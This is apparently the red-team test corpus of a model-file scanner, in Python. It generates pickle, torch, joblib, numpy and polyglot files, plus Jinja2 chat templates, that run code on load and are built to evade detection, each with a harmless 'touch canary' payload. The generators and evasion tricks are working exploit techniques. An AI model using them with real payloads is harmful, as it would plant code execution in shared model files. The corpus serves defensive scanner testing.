"""The scanner's own red-team corpus: malicious files built to slip past a scanner that has been read, and
unusual-but-legal benign checkpoints written by the real libraries.

Every malicious payload is a harmless canary: it creates a file named ``canary`` in the *current directory*
(``open('canary','w')``, ``touch canary``, ``numpy.save('canary.npy', ...)`` ...). The test runs the real
loader in a subprocess whose working directory is a per-case folder under the test's tmp path, and checks
the canary appeared: a "malicious" file that cannot run proves nothing. Nothing here loads a pickle.

Each :class:`Case` names its weakness class (the issue's numbering: 1 names/resolution, 2 sniffing,
3 polyglots, 4 CPython semantics, 6 small items, 7 others), its technique, the loader that fires it and the
rule the scanner must report. Build with :func:`malicious_cases` / :func:`write_benign`.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.corpus.pickleasm import Asm, Call, Glob

ACT = "open('canary','w').close()"  # the canary as Python
SHELL = "touch canary"  # the canary as a shell command
CRIT = "WW-PKL-001"
COMPUTED = "WW-PKL-003"


@dataclass(frozen=True)
class Case:
    name: str
    cls: str  # weakness class of issue 11
    technique: str
    loader: str  # pickle | pickle_py | torch | joblib | numpy | npz (np.load, every key read)
    expected_rule: str
    filename: str
    data: bytes
    canary: str = "canary"
    # Render arguments for a chat-template case (JSON: messages, tools): a backdoor fires only on its trigger
    # chat (red team round 6, class 3). Empty: fire.py's ordinary chat.
    chat: str = ""
    # Files written beside ``filename`` (name, bytes): a store whose index is another file (red team round 22).
    extra: tuple[tuple[str, bytes], ...] = ()


# --------------------------------------------------------------------------------------------------------
# Payload programs: each returns an Asm-built pickle whose loading creates ./canary.

Payload = Callable[[int], bytes]


def _prog(protocol: int, build: Callable[[Asm], None]) -> bytes:
    asm = Asm(protocol)
    build(asm)
    return asm.finish()


def _call(module: str, name: str, *args: object) -> Payload:
    return lambda proto: _prog(proto, lambda a: a.call(Glob(module, name), *args))


def _code_args() -> tuple[object, ...]:
    c = compile(ACT, "<x>", "exec")
    return (
        c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals, c.co_stacksize, c.co_flags,
        c.co_code, c.co_consts, c.co_names, c.co_varnames, c.co_filename, c.co_name, c.co_qualname,
        c.co_firstlineno, c.co_linetable, c.co_exceptiontable, c.co_freevars, c.co_cellvars,
    )


def _function_from_code(types_mod: str, code_attr: str, func_attr: str) -> Payload:
    def build(a: Asm) -> None:
        code = Call(Glob(types_mod, code_attr), _code_args())
        func = Call(Glob(types_mod, func_attr), (code, {}))
        a.call(func)

    return lambda proto: _prog(max(proto, 3), build)


def _getattr_chain(obj: object, attr: str, *args: object) -> Payload:
    return lambda proto: _prog(proto, lambda a: a.call(Call(Glob("builtins", "getattr"), (obj, attr)), *args))


def _attrgetter(module_obj: object, attr: str, *args: object) -> Payload:
    def build(a: Asm) -> None:
        getter = Call(Glob("operator", "attrgetter"), (attr,))
        a.call(Call(getter, (module_obj,)), *args)

    return lambda proto: _prog(proto, build)


def _methodcaller(module_obj: object, method: str, *args: object) -> Payload:
    def build(a: Asm) -> None:
        caller = Call(Glob("operator", "methodcaller"), (method, *args))
        a.call(caller, module_obj)

    return lambda proto: _prog(proto, build)


def _nested(loader_mod: str, loader_name: str) -> Payload:
    inner = _prog(2, lambda a: a.call(Glob("os", "system"), SHELL))

    def build(a: Asm) -> None:
        a.call(Glob(loader_mod, loader_name), inner)

    return lambda proto: _prog(max(proto, 3), build)


def _hook(attr: str, opcode: bytes) -> Payload:
    """argparse.Namespace (allowlisted) gets an instance attribute ``attr`` = exec through BUILD; the next
    APPEND / BUILD makes the unpickler call it (the attacker chose what ``append``/``__setstate__`` is)."""

    def build(a: Asm) -> None:
        a.call(Glob("argparse", "Namespace"))
        a.dict_of({attr: Glob("builtins", "exec")})
        a.build()
        a.emit(ACT)
        a.raw(opcode)

    return lambda proto: _prog(proto, build)


def _rebuild_from_type() -> Payload:
    # torch._tensor._rebuild_from_type_v2(func, new_type, args, state) calls func(*args) first.
    def build(a: Asm) -> None:
        a.call(Glob("torch._tensor", "_rebuild_from_type_v2"), Glob("builtins", "exec"), Glob("torch", "Tensor"), (ACT,), {})

    return lambda proto: _prog(proto, build)


def _str_computed_module() -> Payload:
    # STACK_GLOBAL over str('os') (an allowlisted call) and 'system': a name computed at run time.
    def build(a: Asm) -> None:
        a.emit(Call(Glob("builtins", "str"), ("os",)))
        a.emit("system")
        a.stack_global()
        a.tuple_of((SHELL,))
        a.reduce()

    return lambda proto: _prog(max(proto, 4), build)


def _memo_name() -> Payload:
    # module and attribute names fetched back from the memo before STACK_GLOBAL.
    def build(a: Asm) -> None:
        a.emit("subprocess")
        m = a.put()
        a.pop()
        a.emit("check_call")
        n = a.put()
        a.pop()
        a.get(m)
        a.get(n)
        a.stack_global()
        a.tuple_of((["touch", "canary"],))
        a.reduce()

    return lambda proto: _prog(max(proto, 4), build)


def _ext_registry() -> Payload:
    # copyreg.add_extension('os', 'system', 240) then EXT1 240.
    def build(a: Asm) -> None:
        a.call(Glob("copyreg", "add_extension"), "os", "system", 240)
        a.pop()
        a.ext(240)
        a.tuple_of((SHELL,))
        a.reduce()

    return lambda proto: _prog(max(proto, 2), build)


def _inst(module: str, name: str, *args: object) -> Payload:
    def build(a: Asm) -> None:
        a.mark()
        for arg in args:
            a.emit(arg)
        a.inst(module, name)

    return lambda proto: _prog(0, build)


def _obj(module: str, name: str, *args: object) -> Payload:
    def build(a: Asm) -> None:
        a.mark()
        a.emit(Glob(module, name))
        for arg in args:
            a.emit(arg)
        a.obj()

    return lambda proto: _prog(max(proto, 1), build)


def _import_then_getattr(importer_mod: str, importer: str) -> Payload:
    return _getattr_chain(Call(Glob(importer_mod, importer), ("os",)), "system", SHELL)


def _path_touch() -> Payload:
    return _getattr_chain(Call(Glob("pathlib", "Path"), ("canary",)), "touch")


def _partial() -> Payload:
    return lambda proto: _prog(proto, lambda a: a.call(Call(Glob("functools", "partial"), (Glob("os", "system"), SHELL))))


def _timeit() -> Payload:
    return _call("timeit", "timeit", ACT, "pass", Glob("time", "perf_counter"), 1)


# name, technique, class, payload, expected rule, minimum protocol
PAYLOADS: list[tuple[str, str, str, Payload, str]] = [
    ("os_system", "os.system via GLOBAL", "1", _call("os", "system", SHELL), CRIT),
    ("posix_system", "posix.system (the module os re-exports)", "1", _call("posix", "system", SHELL), CRIT),
    ("subprocess_call", "subprocess.call", "1", _call("subprocess", "call", ["touch", "canary"]), CRIT),
    ("subprocess_check_output", "subprocess.check_output", "1", _call("subprocess", "check_output", ["touch", "canary"]), CRIT),
    ("subprocess_run", "subprocess.run", "1", _call("subprocess", "run", ["touch", "canary"]), CRIT),
    ("builtins_exec", "builtins.exec", "1", _call("builtins", "exec", ACT), CRIT),
    ("builtins_eval", "builtins.eval", "1", _call("builtins", "eval", ACT), CRIT),
    ("builtin_py2_eval", "Python 2 name __builtin__.eval mapped by the unpickler", "1", _call("__builtin__", "eval", ACT), CRIT),
    ("builtins_open", "builtins.open creates the file", "1", _call("builtins", "open", "canary", "w"), CRIT),
    ("io_open", "io.open", "1", _call("io", "open", "canary", "w"), CRIT),
    ("io_fileio", "_io.FileIO file constructor", "1", _call("_io", "FileIO", "canary", "w"), CRIT),
    ("logging_filehandler", "logging.FileHandler (a handler constructor opens its file)", "1", _call("logging", "FileHandler", "canary"), CRIT),
    ("codecs_open", "codecs.open", "1", _call("codecs", "open", "canary", "w"), CRIT),
    ("gzip_open", "gzip.open for writing", "1", _call("gzip", "open", "canary", "wb"), CRIT),
    ("bz2_file", "bz2.BZ2File for writing", "1", _call("bz2", "BZ2File", "canary", "w"), CRIT),
    ("lzma_open", "lzma.open for writing", "1", _call("lzma", "open", "canary", "wb"), CRIT),
    ("shutil_copyfile", "shutil.copyfile onto the canary", "1", _call("shutil", "copyfile", "/etc/hostname", "canary"), CRIT),
    ("numpy_savetxt", "numpy.savetxt writes a file", "1", _call("numpy", "savetxt", "canary", [1]), CRIT),
    ("numpy_save", "numpy.save writes a file", "1", _call("numpy", "save", "canary", 1), CRIT),
    ("torch_save", "torch.save writes a file", "1", _call("torch", "save", 1, "canary"), CRIT),
    ("joblib_dump", "joblib.dump writes a file", "1", _call("joblib", "dump", 1, "canary"), CRIT),
    ("timeit", "timeit.timeit compiles and runs its statement", "1", _timeit(), CRIT),
    ("cprofile_run", "cProfile.run executes its statement", "1", _call("cProfile", "run", ACT), CRIT),
    ("code_functiontype", "types.FunctionType over types.CodeType from literal bytecode", "1", _function_from_code("types", "CodeType", "FunctionType"), CRIT),
    ("code_via_numpy_types", "CodeType/FunctionType reached as numpy._core.fromnumeric.types.*", "1",
     _function_from_code("numpy._core.fromnumeric", "types.CodeType", "types.FunctionType"), CRIT),
    ("fileio_via_numpy_io", "FileIO reached as numpy.lib._format_impl.io.FileIO", "1",
     _call("numpy.lib._format_impl", "io.FileIO", "canary", "w"), CRIT),
    ("system_via_sklearn_inspect", "os.system reached as sklearn.base.inspect.os.system", "1",
     _call("sklearn.base", "inspect.os.system", SHELL), CRIT),
    ("system_via_numpy_os", "os.system reached as numpy._core._methods.os.system", "1",
     _call("numpy._core._methods", "os.system", SHELL), CRIT),
    ("pickle_via_numpy", "pickle.loads reached as numpy.lib._npyio_impl.pickle.loads", "1",
     lambda proto: _prog(max(proto, 4), lambda a: a.call(Glob("numpy.lib._npyio_impl", "pickle.loads"), _prog(2, lambda b: b.call(Glob("os", "system"), SHELL)))), CRIT),
    ("filehandler_via_logging_attr", "logging.FileHandler reached through logging.handlers.logging", "1",
     _call("logging.handlers", "logging.FileHandler", "canary"), CRIT),
    # Red team round 5: a module alias of a library the resolution table did not cover (transformers imports
    # torch.distributed as ``dist``) walked past a spelling-based class rule; FileStore creates its file at load.
    ("filestore_via_transformers_dist", "torch.distributed.FileStore reached as transformers.training_args.dist.FileStore",
     "1", _call("transformers.training_args", "dist.FileStore", "canary", 2), CRIT),  # 2 workers: the file outlives the object
    ("getattr_import", "getattr(__import__('os'), 'system')", "1", _import_then_getattr("builtins", "__import__"), CRIT),
    ("importlib_import", "getattr(importlib.import_module('os'), 'system')", "1", _import_then_getattr("importlib", "import_module"), CRIT),
    ("pydoc_locate", "pydoc.locate('os.system') then call", "1",
     lambda proto: _prog(proto, lambda a: a.call(Call(Glob("pydoc", "locate"), ("os.system",)), SHELL)), CRIT),
    ("attrgetter", "operator.attrgetter('system')(os)", "1", _attrgetter(Call(Glob("importlib", "import_module"), ("os",)), "system", SHELL), CRIT),
    ("methodcaller", "operator.methodcaller('system', cmd)(os)", "1", _methodcaller(Call(Glob("importlib", "import_module"), ("os",)), "system", SHELL), CRIT),
    ("functools_partial", "functools.partial(os.system, cmd)()", "1", _partial(), CRIT),
    ("pathlib_touch", "getattr(pathlib.Path('canary'), 'touch')()", "1", _path_touch(), CRIT),
    ("nested_pickle_loads", "pickle.loads of an embedded payload", "1", _nested("pickle", "loads"), CRIT),
    ("nested_c_pickle_loads", "_pickle.loads of an embedded payload", "1", _nested("_pickle", "loads"), CRIT),
    ("append_hook", "APPEND calls an 'append' attribute planted with BUILD on an allowlisted object", "1", _hook("append", b"a"), CRIT),
    ("setstate_hook", "BUILD calls a '__setstate__' attribute planted by an earlier BUILD", "1", _hook("__setstate__", b"b"), CRIT),
    ("rebuild_from_type_calls_arg", "torch._tensor._rebuild_from_type_v2 calls its first argument", "1", _rebuild_from_type(), CRIT),
    ("computed_str_module", "STACK_GLOBAL over str('os'): a computed module name", "1", _str_computed_module(), COMPUTED),
    ("memo_names", "STACK_GLOBAL over names fetched from the memo", "1", _memo_name(), CRIT),
    ("ext_registry", "copyreg.add_extension then EXT1", "4", _ext_registry(), CRIT),
    ("inst_opcode", "INST opcode (protocol 0)", "4", _inst("os", "system", SHELL), CRIT),
    ("obj_opcode", "OBJ opcode", "4", _obj("os", "system", SHELL), CRIT),
]

# First opcodes a list-based sniffer did not know (class 2): each prefix is a complete no-op.
PREFIXES: list[tuple[str, bytes]] = [
    ("newtrue", b"\x880"),
    ("newfalse", b"\x890"),
    ("empty_set", b"\x8f0"),
    ("long1", b"\x8a\x01\x010"),
    ("text_int", b"I7\n0"),
    ("short_binunicode", b"\x8c\x01a0"),
    ("binfloat", b"G" + struct.pack(">d", 1.5) + b"0"),
    ("none_pop", b"N0"),
]


def _strip_proto(program: bytes) -> bytes:
    """A protocol-0/1 style program body (no PROTO/FRAME) so it can follow any prefix."""
    if program[:1] == b"\x80":
        program = program[2:]
    if program[:1] == b"\x95":
        program = program[9:]
    return program


# --------------------------------------------------------------------------------------------------------
# Wrappers: how the same program reaches a loader.


def torch_zip(program: bytes, member: str = "data.pkl") -> bytes:
    """A torch.save zip archive whose data.pkl (named ``member``: torch finds it case-insensitively) is
    ``program``."""
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            if info.filename.endswith("/data.pkl"):
                dst.writestr(info.filename[: -len("data.pkl")] + member, program)
            else:
                dst.writestr(info.filename, src.read(info))
    return out.getvalue()


def npy_object_array(program: bytes) -> bytes:
    """A .npy file with dtype object: np.load(allow_pickle=True) unpickles the data part."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + program


def _wrapper(asm: Asm, shape: object, dtype: object) -> None:
    """A joblib NumpyArrayWrapper (built with NEWOBJ + BUILD, as joblib's pickler writes it)."""
    asm.emit(Glob("joblib.numpy_pickle", "NumpyArrayWrapper"))
    asm.tuple_of(())
    asm.newobj()
    asm.dict_of({"subclass": Glob("numpy", "ndarray"), "shape": shape, "order": "C",
                 "dtype": Call(Glob("numpy", "dtype"), (dtype, False, True)), "allow_mmap": False})
    asm.build()


def joblib_object_array(program: bytes, dtype: object = "O8") -> bytes:
    """A joblib file whose NumpyArrayWrapper is an object array: joblib.load unpickles the program that
    follows the wrapper's BUILD (joblib writes object arrays as an embedded pickle there)."""
    asm = Asm(2)
    _wrapper(asm, (1,), dtype)
    asm.raw(program)
    return asm.finish()


def joblib_differential(program: bytes) -> bytes:
    """A joblib file that joblib.load reads as benign while pickle.load runs ``program`` hidden in the
    "array bytes" of a NumpyArrayWrapper (joblib skips them; pickle executes them)."""
    body = _strip_proto(program)
    assert body.endswith(b".")
    body = body[:-1] + b"0"  # leave the payload's result as a popped value, keep the outer program going
    asm = Asm(2)
    _wrapper(asm, (len(body),), "u1")
    asm.raw(body)
    return asm.finish()


def tar_polyglot(program: bytes) -> bytes:
    """A valid tar archive whose first member's name field is the pickle program (pickle.load reads it)."""
    body = _strip_proto(program)
    assert len(body) < 100 and b"\x00" not in body, len(body)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo(name=body.decode("latin-1"))
        payload = b"weights"
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    return out.getvalue()


def safetensors_polyglot(program: bytes) -> bytes:
    """Looks like safetensors (non-printable 8-byte header length, then '{"'), runs a pickle on pickle.load:
    the 8 length bytes are no-op opcodes and a SHORT_BINSTRING that swallows the JSON header."""
    body = _strip_proto(program)
    header = b'{"__metadata__":{"format":"pt"}}'
    lead = b"\x880\x880\x880U" + bytes([len(header)])
    assert len(lead) == 8
    return lead + header + body


def frame_too_long(program: bytes) -> bytes:
    """A FRAME that announces more bytes than the file holds: the C unpickler stops there, the pure-Python
    one (joblib's, pickle._Unpickler) reads on and runs the payload."""
    body = _strip_proto(program)
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 4096) + body


def straddle_frame(program: bytes) -> bytes:
    """Frames that end inside an opcode: the pure-Python unpickler refuses, the C one runs the payload."""
    body = _strip_proto(program)
    return b"\x80\x04\x95" + struct.pack("<Q", 3) + body


COMPRESSORS: list[tuple[str, Callable[[bytes], bytes]]] = [
    ("gzip", lambda d: gzip.compress(d)),
    ("zlib", lambda d: zlib.compress(d)),
    ("bz2", lambda d: bz2.compress(d)),
    ("xz", lambda d: lzma.compress(d)),
    ("lzma", lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE)),
    # a 4 KiB dictionary: the header reads 5d 00 10, which a three-byte magic (5d 00 00) misses
    ("lzma_small_dict", lambda d: lzma.compress(
        d, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096}])),
]


# Dotted qualnames resolve only from protocol 4; Python 2 names are mapped only below protocol 3.
DOTTED = {"code_via_numpy_types", "fileio_via_numpy_io", "system_via_sklearn_inspect", "system_via_numpy_os",
          "filehandler_via_logging_attr", "pickle_via_numpy", "filestore_via_transformers_dist"}


def _protocols(name: str, cls: str) -> tuple[int, ...]:
    if name in DOTTED:
        return (4,)
    if name == "builtin_py2_eval":
        return (2,)
    return (2, 4) if cls == "1" else (2,)


def malicious_cases() -> list[Case]:
    cases: list[Case] = []
    by_name = {p[0]: p for p in PAYLOADS}
    for name, technique, cls, payload, rule in PAYLOADS:
        for proto in _protocols(name, cls):
            cases.append(Case(f"raw_p{proto}_{name}", cls, f"{technique} (protocol {proto})", "pickle", rule,
                              f"model_{name}.pkl", payload(proto)))
    small = ["os_system", "builtins_exec", "builtins_open", "subprocess_call", "code_functiontype", "getattr_import"]
    for pname, prefix in PREFIXES:
        for name in small:
            body = _strip_proto(by_name[name][3](2))
            cases.append(Case(f"prefix_{pname}_{name}", "2", f"first opcode {pname}, then {by_name[name][1]}",
                              "pickle", CRIT, f"weights_{pname}_{name}.bin", prefix + body))
    for cname, compress in COMPRESSORS:
        for name in ("os_system", "builtins_exec", "io_fileio", "system_via_numpy_os"):
            program = by_name[name][3](4)
            cases.append(Case(f"compressed_{cname}_{name}", "2", f"{cname}-compressed pickle read by joblib.load",
                              "joblib", CRIT, f"model_{name}.joblib", compress(program)))
        # compressed *and* an unusual first opcode
        body = b"\x880" + _strip_proto(by_name["os_system"][3](2))
        cases.append(Case(f"compressed_{cname}_newtrue", "2", f"{cname} stream whose pickle starts with NEWTRUE",
                          "joblib", CRIT, f"clf_{cname}.joblib", compress(body)))
    for name in ("os_system", "builtins_exec", "code_via_numpy_types", "system_via_sklearn_inspect", "append_hook",
                 "setstate_hook", "rebuild_from_type_calls_arg", "computed_str_module", "fileio_via_numpy_io",
                 "logging_filehandler", "pathlib_touch", "nested_pickle_loads", "filestore_via_transformers_dist"):
        cases.append(Case(f"torchzip_{name}", "1", f"torch zip data.pkl: {by_name[name][1]}", "torch",
                          by_name[name][4], f"pytorch_model_{name}.bin", torch_zip(by_name[name][3](_protocols(name, "1")[0]))))
    for name in ("os_system", "builtins_exec", "subprocess_call"):
        for pname, prefix in PREFIXES[:4]:
            body = _strip_proto(by_name[name][3](2))
            cases.append(Case(f"torchzip_prefix_{pname}_{name}", "2", f"torch zip data.pkl starting with {pname}",
                              "torch", CRIT, f"ckpt_{pname}_{name}.pt", torch_zip(prefix + body)))
    for name in ("os_system", "builtins_exec", "io_fileio", "code_functiontype", "memo_names"):
        cases.append(Case(f"legacy_torch_{name}", "2", f"non-zip file given to torch.load: {by_name[name][1]}",
                          "torch", by_name[name][4], f"legacy_{name}.pt", by_name[name][3](2)))
        cases.append(Case(f"legacy_torch_newfalse_{name}", "2", "torch.load of a pickle starting with NEWFALSE",
                          "torch", by_name[name][4], f"legacy_nf_{name}.pth", b"\x890" + _strip_proto(by_name[name][3](2))))
    for name in ("os_system", "builtins_exec", "subprocess_call", "getattr_import", "builtins_open"):
        cases.append(Case(f"npy_object_{name}", "1", f".npy object array: {by_name[name][1]}", "numpy",
                          by_name[name][4], f"arr_{name}.npy", npy_object_array(by_name[name][3](2))))
        cases.append(Case(f"np_load_raw_{name}", "2", f"np.load of a non-.npy file unpickles it: {by_name[name][1]}",
                          "numpy", by_name[name][4], f"arr_{name}.npz", b"\x8f0" + _strip_proto(by_name[name][3](2))))
    for name in ("os_system", "builtins_exec", "subprocess_call"):
        cases.append(Case(f"joblib_object_array_{name}", "4", "payload in a joblib object array's embedded pickle",
                          "joblib", CRIT, f"est_{name}.joblib", joblib_object_array(by_name[name][3](2))))
        cases.append(Case(f"joblib_differential_{name}", "4", "payload in the array bytes joblib skips, run by pickle.load",
                          "pickle", "WW-PKL-011", f"est_diff_{name}.joblib", joblib_differential(by_name[name][3](2))))
    for name in ("os_system", "builtins_exec", "subprocess_call"):
        cases.append(Case(f"tar_polyglot_{name}", "3", "tar archive whose header is also a pickle", "pickle",
                          "WW-FS-006", f"model_{name}.tar", tar_polyglot(by_name[name][3](0))))
        cases.append(Case(f"safetensors_polyglot_{name}", "3", "safetensors-looking header that is also a pickle",
                          "pickle", CRIT, f"model_{name}.safetensors", safetensors_polyglot(by_name[name][3](2))))
        cases.append(Case(f"frame_too_long_{name}", "4", "FRAME longer than the data: only the pure-Python unpickler runs it",
                          "pickle_py", "WW-PKL-012", f"frame_{name}.pkl", frame_too_long(by_name[name][3](2))))
        cases.append(Case(f"frame_straddle_{name}", "4", "opcode across a frame end: only the C unpickler runs it",
                          "pickle", "WW-PKL-012", f"straddle_{name}.pkl", straddle_frame(by_name[name][3](2))))
    for name in ("os_system", "builtins_exec"):
        body = _strip_proto(by_name[name][3](2))[:-1] + b"0"
        asm = Asm(2)
        _wrapper(asm, Call(Glob("builtins", "tuple"), ([8],)), "u1")  # shape known only at load time
        asm.raw(b"\x00" * 8 + body)
        cases.append(Case(f"joblib_computed_shape_{name}", "4", "joblib array whose shape is computed: the payload follows its data",
                          "joblib", "WW-PKL-006", f"est_shape_{name}.joblib", asm.finish()))
    for label, dtype in (("object", "object"), ("pipe_o", "|O"), ("structured", [("a", "O")])):
        cases.append(Case(f"joblib_object_dtype_{label}", "4", f"joblib object array with dtype spelled {dtype!r}",
                          "joblib", CRIT, f"est_dtype_{label}.joblib", joblib_object_array(by_name["builtins_exec"][3](2), dtype)))
    for name in ("os_system", "builtins_exec", "subprocess_call"):
        cases.append(Case(f"torchzip_case_{name}", "3", "torch zip whose pickle member is DATA.PKL (found case-insensitively)",
                          "torch", CRIT, f"case_{name}.pt", torch_zip(by_name[name][3](2), "DATA.PKL")))
    pad = b"X" + struct.pack("<I", 100_000) + b"a" * 100_000 + b"0"  # a literal longer than any sniffing head
    for name in ("os_system", "builtins_exec", "subprocess_call"):
        body = _strip_proto(by_name[name][3](2))
        cases.append(Case(f"padded_head_{name}", "2", "a 100 KB literal first, the payload past the sniffed head",
                          "pickle", CRIT, f"padded_{name}.bin", pad + body))
        cases.append(Case(f"padded_head_gzip_{name}", "2", "gzip stream of a pickle whose payload is past the head",
                          "joblib", CRIT, f"padded_{name}.joblib", gzip.compress(pad + body)))
    cases.append(Case("py2_commands_getoutput", "1", "Python 2 module name 'commands' mapped to subprocess", "pickle", CRIT,
                      "old.pkl", _prog(0, lambda a: a.call(Glob("commands", "getoutput"), SHELL))))
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."  # torch's legacy magic number
    cases.append(Case("legacy_torch_second_program", "7", "payload in the second program of a legacy torch file",
                      "torch", CRIT, "multi.pt", magic + _call("os", "system", SHELL)(2)))
    cases.append(Case("legacy_torch_second_program_newtrue", "2", "second legacy-torch program starting with NEWTRUE",
                      "torch", CRIT, "multi2.pt", magic + b"\x880" + _strip_proto(_call("builtins", "exec", ACT)(2))))
    cases.append(Case("raw_stack_global_dotted_p5", "1", "protocol-5 dotted STACK_GLOBAL through pathlib",
                      "pickle", CRIT, "dotted.pkl", _call("pathlib", "os.system", SHELL)(5)))
    cases.append(Case("raw_binget_raw", "1", "payload split by raw memo opcodes", "pickle", CRIT, "memo.pkl",
                      _prog(2, lambda a: (a.emit(Glob("os", "system")), a.put(), a.pop(), a.get(0), a.emit((SHELL,)), a.reduce(), None)[-1])))
    cases.extend(template_cases())
    cases.extend(round6_cases())  # red team round 6 (block at the end of this file)
    cases.extend(round7_cases())  # red team round 7 (block at the end of this file)
    cases.extend(round8_cases())  # red team round 8 (block at the end of this file)
    cases.extend(round11_cases())  # red team round 11 (block at the end of this file)
    cases.extend(round12_cases())  # red team round 12 (block at the end of this file)
    cases.extend(round13_cases())  # red team round 13 (block at the end of this file)
    cases.extend(round15_cases())  # red team round 15 (block at the end of this file)
    cases.extend(round16_cases())  # red team round 16 (block at the end of this file)
    cases.extend(round17_cases())  # red team round 17 (block at the end of this file)
    cases.extend(round18_cases())  # red team round 18 (block at the end of this file)
    cases.extend(round21_cases())  # red team round 21, classes A and B (block at the end of this file)
    cases.extend(round22_cases())  # red team round 22, classes A and B (block at the end of this file)
    cases.extend(template_round7_cases())  # red team round 7 on chat templates (block at the end of this file)
    cases.extend(template_round8_cases())  # red team round 8 on chat templates (block at the end of this file)
    cases.extend(template_round9_cases())  # red team round 9 on chat templates (block at the end of this file)
    cases.extend(template_round10_cases())  # red team round 10 on chat templates (block at the end of this file)
    cases.extend(template_round11_cases())  # red team round 11 on chat templates (block at the end of this file)
    cases.extend(template_round12_cases())  # red team round 12 on chat templates (block at the end of this file)
    cases.extend(template_round15_cases())  # red team round 15 on chat templates (block at the end of this file)
    cases.extend(template_round16_cases())  # red team round 16 on chat templates (block at the end of this file)
    cases.extend(template_round17_cases())  # red team round 17 on chat templates (block at the end of this file)
    return cases


# --------------------------------------------------------------------------------------------------------
# Chat templates (issue 11, class 5; red team round 3 on the fast template path). The real loader is a render
# of the template in a plain jinja2.Environment (stacks that skip the sandbox): the canary is our own
# ``os.system('touch canary')`` reached through cycler's globals, in the case's working directory.

_U2 = "'_'*2"


def _built(name: str) -> str:
    """A dunder name assembled at render time: '_'*2 ~ 'init' ~ '_'*2."""
    return f"{_U2} ~ '{name}' ~ {_U2}"


_SYSTEM = "['os'].system('touch canary')"
TEMPLATE_WALKER = (
    ("dict_keyword_keys", "keys from dict(__init__=1) iterated by for loops",
     "{% for a in dict(__init__=1) %}{% for b in dict(__globals__=1) %}{{ cycler[a][b]" + _SYSTEM + " }}{% endfor %}{% endfor %}",
     "WW-TPL-003"),
    ("for_tuple_target", "for loop with a tuple target over a literal list of pairs",
     "{% for a, z in [(" + _built("init") + ", 1)] %}{% for b, y in [(" + _built("globals") + ", 1)] %}{{ cycler[a][b]"
     + _SYSTEM + " }}{% endfor %}{% endfor %}", "WW-TPL-003"),
    ("macro_params", "names passed as macro arguments",
     "{% macro m(a, b) %}{{ cycler[a][b]" + _SYSTEM + " }}{% endmacro %}{{ m(" + _built("init") + ", " + _built("globals") + ") }}",
     "WW-TPL-003"),
    ("with_block", "names bound by {% with %}",
     "{% with a = " + _built("init") + ", b = " + _built("globals") + " %}{{ cycler[a][b]" + _SYSTEM + " }}{% endwith %}",
     "WW-TPL-003"),
    ("namespace_attribute", "names stored as namespace attributes ({% set ns.a %})",
     "{% set ns = namespace() %}{% set ns.a = " + _built("init") + " %}{% set ns.b = " + _built("globals")
     + " %}{{ cycler[ns.a][ns.b]" + _SYSTEM + " }}", "WW-TPL-003"),
    ("block_set", "names built by a block {% set %}...{% endset %}",
     "{% set a %}{{ '_'*2 }}init{{ '_'*2 }}{% endset %}{% set b %}{{ '_'*2 }}globals{{ '_'*2 }}{% endset %}{{ cycler[a][b]"
     + _SYSTEM + " }}", "WW-TPL-003"),
    ("tuple_set", "names bound by a tuple {% set a, b = ... %}",
     "{% set a, b = " + _built("init") + ", " + _built("globals") + " %}{{ cycler[a][b]" + _SYSTEM + " }}", "WW-TPL-003"),
    ("dict_keys_list_index", "(dict(__init__=1)|list)[0] as the key",
     "{% set a = dict(__init__=1)|list %}{% set b = dict(__globals__=1)|list %}{{ cycler[a[0]][b[0]]" + _SYSTEM + " }}",
     "WW-TPL-003"),
    ("map_attribute_loop_var", "map(attribute=a) with a from a tuple-target loop",
     "{% for a, z in [(" + _built("init") + ", 1)] %}{% for b, y in [(" + _built("globals") + ", 1)] %}"
     "{{ ([cycler]|map(attribute=a)|map(attribute=b)|first)" + _SYSTEM + " }}{% endfor %}{% endfor %}", "WW-TPL-004"),
    ("map_dyn_kwargs", "map(**{'attribute': ...}) through dyn_kwargs",
     "{{ ([cycler]|map(**{'attribute': " + _built("init") + "})|map(**{'attribute': " + _built("globals") + "})|first)"
     + _SYSTEM + " }}", "WW-TPL-004"),
    ("namespace_kwarg_list", "namespace(a=dict(__init__=1)|list), then ns.a[0]",
     "{% set ns = namespace(a=dict(__init__=1)|list) %}{{ cycler[ns.a[0]][(dict(__globals__=1)|list)[0]]" + _SYSTEM + " }}",
     "WW-TPL-003"),
    ("reassigned_name", "a name set to a harmless constant first, then to the built name",
     "{% set a = 'x' %}{% set a = " + _built("init") + " %}{% set b = 'y' %}{% set b = " + _built("globals")
     + " %}{{ cycler[a][b]" + _SYSTEM + " }}", "WW-TPL-003"),
    ("reassigned_attr_format", "reassigned names built with '%c%c'|format(95,95), read with |attr",
     "{% set a = 'x' %}{% set a = '%c%c'|format(95,95) ~ 'init' ~ '%c%c'|format(95,95) %}{% set b = 'y' %}"
     "{% set b = '%c%c'|format(95,95) ~ 'globals' ~ '%c%c'|format(95,95) %}{{ (cycler|attr(a)|attr(b))" + _SYSTEM + " }}",
     "WW-TPL-002"),
    ("call_block_argument", "macro argument given by a {% call %} block",
     "{% macro m(a) %}{{ caller() }}{% for b in dict(__globals__=1) %}{{ cycler[a][b]" + _SYSTEM + " }}{% endfor %}"
     "{% endmacro %}{% call m(dict(__init__=1)|first) %}{% endcall %}", "WW-TPL-003"),
    ("loop_cycle", "the key given by loop.cycle(...)",
